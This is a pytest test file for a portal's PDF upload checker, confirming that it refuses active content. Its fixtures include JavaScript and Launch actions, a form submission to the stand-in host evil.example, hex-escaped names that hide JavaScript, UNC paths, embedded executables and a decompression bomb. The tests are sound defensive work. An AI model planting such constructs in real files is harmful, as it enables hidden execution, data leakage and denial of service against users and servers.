"""PDFs through the one upload checker: parsed, and refused when any object
carries active content, however it is written or wherever it is stored."""

import io

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from portal.uploads import Limits, UploadRefused, check

LIMITS = Limits(max_bytes=10 * 1024 * 1024)
KINDS = ("pdf",)


def _save(pdf: pikepdf.Pdf, *, packed: bool = False, **options) -> bytes:
    out = io.BytesIO()
    if packed:
        # Every dictionary inside a compressed object stream: nothing of it
        # is visible in the raw bytes.
        options |= {
            "object_stream_mode": pikepdf.ObjectStreamMode.generate,
            "compress_streams": True,
        }
    pdf.save(out, **options)
    return out.getvalue()


def plain_pdf() -> pikepdf.Pdf:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[0]
    page.Contents = pdf.make_stream(b"BT /F1 12 Tf 72 770 Td (Evidence) Tj ET")
    page.Resources = Dictionary(
        Font=Dictionary(
            F1=Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        )
    )
    return pdf


def with_link(uri: str) -> pikepdf.Pdf:
    pdf = plain_pdf()
    action = Dictionary(S=Name.URI, URI=String(uri))
    link = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 700, 200, 720]), A=action
    )
    pdf.pages[0].Annots = pdf.make_indirect(Array([pdf.make_indirect(link)]))
    return pdf


def raw_pdf(*objects: bytes) -> bytes:
    """A PDF written byte by byte (object 1 is the catalog), with a correct
    cross-reference table, for spellings a library would normalise."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1)
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def _page(extra: bytes = b"") -> bytes:
    return b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + extra + b" >>"


def test_a_plain_pdf_passes_unchanged():
    for packed in (False, True):
        data = _save(plain_pdf(), packed=packed)
        checked = check("合同.pdf", data, kinds=KINDS, limits=LIMITS)
        assert checked.content == data
        assert checked.content_type == "application/pdf"


def test_a_hand_written_pdf_passes():
    data = raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, _page())
    assert check("a.pdf", data, kinds=KINDS, limits=LIMITS).size == len(data)


@pytest.mark.parametrize(
    "uri", ["https://www.jinan.gov.cn/", "http://example.com/a", "mailto:a@b.cn"]
)
def test_web_and_mail_links_are_kept(uri):
    data = _save(with_link(uri))
    assert check("链接.pdf", data, kinds=KINDS, limits=LIMITS).content == data


@pytest.mark.parametrize(
    "uri",
    ["javascript:app.alert(1)", "file:///C:/Windows/calc.exe", "\\\\10.0.0.5\\s\\x"],
)
def test_links_to_anything_but_web_or_mail_are_refused(uri):
    with pytest.raises(UploadRefused, match=r"指向非网页地址的链接"):
        check("链接.pdf", _save(with_link(uri)), kinds=KINDS, limits=LIMITS)


def _js_open_action(pdf):
    pdf.Root.OpenAction = pdf.make_indirect(
        Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String("app.alert(1)"))
    )


def _launch_open_action(pdf):
    pdf.Root.OpenAction = Dictionary(
        S=Name.Launch, F=String("C:\\Windows\\System32\\calc.exe")
    )


def _page_additional_action(pdf):
    # /AA with a harmless-looking action still runs without a click.
    pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.Named, N=Name.NextPage))


def _names_javascript(pdf):
    action = Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"this.print()"))
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("x"), pdf.make_indirect(action)]))
    )


def _embedded_file(pdf):
    spec = pikepdf.AttachedFileSpec(
        pdf, b"MZ\x90\x00 not really a program", mime_type="application/octet-stream"
    )
    pdf.attachments["发票.exe"] = spec


def _file_attachment_annotation(pdf):
    annot = Dictionary(
        Type=Name.Annot,
        Subtype=Name.FileAttachment,
        Rect=Array([0, 0, 10, 10]),
        FS=Dictionary(Type=Name.Filespec, F=String("x.exe")),
    )
    pdf.pages[0].Annots = Array([pdf.make_indirect(annot)])


def _rich_media(pdf):
    annot = Dictionary(
        Type=Name.Annot,
        Subtype=Name.RichMedia,
        Rect=Array([0, 0, 10, 10]),
    )
    pdf.pages[0].Annots = Array([pdf.make_indirect(annot)])


def _xfa(pdf):
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([]), XFA=pdf.make_stream(b"<xdp:xdp></xdp:xdp>")
    )


def _action_on_link(kind, **extra):
    def attach(pdf):
        action = Dictionary(S=Name(f"/{kind}"), **extra)
        link = Dictionary(
            Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action
        )
        pdf.pages[0].Annots = Array([pdf.make_indirect(link)])

    return attach


CASES = {
    "JavaScript open action": (_js_open_action, "JavaScript"),
    "Launch open action": (_launch_open_action, "启动外部程序"),
    "page additional action": (_page_additional_action, "自动触发的动作"),
    "document-level JavaScript": (_names_javascript, "JavaScript"),
    "embedded file": (_embedded_file, "内嵌文件"),
    "file attachment annotation": (_file_attachment_annotation, "内嵌文件"),
    "rich media": (_rich_media, "富媒体"),
    "XFA form": (_xfa, "XFA"),
    "submit form": (
        _action_on_link("SubmitForm", F=String("https://evil.example/")),
        "提交表单",
    ),
    "import data": (_action_on_link("ImportData", F=String("data.fdf")), "导入"),
    "remote go-to": (
        _action_on_link("GoToR", F=String("\\\\10.0.0.5\\share\\x.pdf"), D=Array([0])),
        "打开其他文件",
    ),
}


@pytest.mark.parametrize("packed", [False, True], ids=["plain", "object-streams"])
@pytest.mark.parametrize("case", list(CASES))
def test_active_content_is_refused_wherever_it_is_stored(case, packed):
    build, what = CASES[case]
    pdf = plain_pdf()
    build(pdf)
    data = _save(pdf, packed=packed)
    with pytest.raises(UploadRefused, match=f"“证据.pdf”含有可执行内容（.*{what}"):
        check("证据.pdf", data, kinds=KINDS, limits=LIMITS)


def test_javascript_inside_a_compressed_object_stream_is_found():
    pdf = plain_pdf()
    _js_open_action(pdf)
    data = _save(pdf, packed=True)
    # What the old pattern saw: nothing.
    assert (
        b"JavaScript" not in data and b"/JS" not in data and b"OpenAction" not in data
    )
    with pytest.raises(UploadRefused, match=r"JavaScript"):
        check("证据.pdf", data, kinds=KINDS, limits=LIMITS)


@pytest.mark.parametrize(
    "action",
    [
        b"<< /S /J#61vaScript /JS (app.alert(1)) >>",
        b"<< /S /#4A#61#76#61#53#63#72#69#70#74 /#4A#53 (app.alert(1)) >>",
        b"<< /S /L#61unch /F (calc.exe) >>",
    ],
)
def test_escaped_names_are_read_as_what_they_mean(action):
    data = raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", PAGES, _page(), action
    )
    assert b"JavaScript" not in data and b"Launch" not in data
    with pytest.raises(UploadRefused, match=r"可执行内容"):
        check("证据.pdf", data, kinds=KINDS, limits=LIMITS)


def test_an_unreferenced_object_is_inspected_too():
    # Object 4 hangs from nothing; a lenient reader may still find it.
    data = raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        PAGES,
        _page(),
        b"<< /S /JavaScript /JS (app.alert(1)) >>",
    )
    with pytest.raises(UploadRefused, match=r"JavaScript"):
        check("证据.pdf", data, kinds=KINDS, limits=LIMITS)


def test_an_additional_action_on_a_form_field_is_refused():
    data = raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>",
        PAGES,
        _page(b"/Annots [4 0 R]"),
        b"<< /FT /Tx /T (a) /Subtype /Widget /Rect [0 0 9 9] "
        b"/AA << /K << /S /Named /N /Print >> >> >>",
    )
    with pytest.raises(UploadRefused, match=r"自动触发的动作"):
        check("表单.pdf", data, kinds=KINDS, limits=LIMITS)


@pytest.mark.parametrize("user_password", ["secret", ""])
def test_encrypted_pdfs_are_refused(user_password):
    encryption = pikepdf.Encryption(owner="owner-pw", user=user_password)
    data = _save(plain_pdf(), encryption=encryption)
    with pytest.raises(UploadRefused, match=r"“加密.pdf”已加密或设有密码"):
        check("加密.pdf", data, kinds=KINDS, limits=LIMITS)


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.7\n1 0 obj << /Type /Catalog >>\n%%EOF",
        b"%PDF-1.7\n" + bytes(range(256)) * 8,
        _save(plain_pdf())[:300],
    ],
)
def test_unparseable_pdfs_are_refused(data):
    with pytest.raises(UploadRefused, match=r"“坏.pdf”不是有效的 PDF 文件"):
        check("坏.pdf", data, kinds=KINDS, limits=LIMITS)


def test_other_bytes_under_a_pdf_name_are_refused():
    with pytest.raises(UploadRefused, match=r"内容与文件扩展名不符"):
        check("合同.pdf", b"<html>not a pdf</html>", kinds=KINDS, limits=LIMITS)


def test_an_object_stream_bomb_is_refused_before_it_is_unpacked():
    pdf = plain_pdf()
    # 30 MB of one letter inside a compressed object stream: tens of
    # kilobytes on disk.
    pdf.Root.Padding = pikepdf.Dictionary(Text=String("A" * (30 * 1024 * 1024)))
    data = _save(pdf, packed=True)
    small = Limits(max_bytes=1024 * 1024)
    assert len(data) < small.max_bytes
    with pytest.raises(UploadRefused, match=r"“大.pdf”解压后过大"):
        check("大.pdf", data, kinds=KINDS, limits=small)
    # The same content under the cap is read and passes.
    assert check("大.pdf", data, kinds=KINDS, limits=Limits(max_bytes=2 * 1024**2))
